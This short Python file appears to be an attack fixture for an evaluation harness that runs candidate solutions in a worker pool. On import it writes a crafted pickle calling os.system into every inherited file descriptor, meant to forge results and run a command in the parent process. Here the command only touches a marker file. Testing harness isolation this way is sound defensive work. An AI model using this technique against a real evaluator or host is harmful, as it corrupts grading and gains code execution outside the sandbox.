import os

import numpy as np

# Attack: write a forged result and a malicious pickle into every descriptor the process
# inherited (once, the pool's result and call queues were among them).
MARKER = "/tmp/evolve_pickle_marker"
PICKLE = b"cos\nsystem\n(S'touch " + MARKER.encode() + b"'\ntR."
for fd in range(3, 1024):
    try:
        os.write(fd, PICKLE)
    except OSError:
        pass


def solve(x):
    return np.arange(x.shape[0])[::-1].copy()
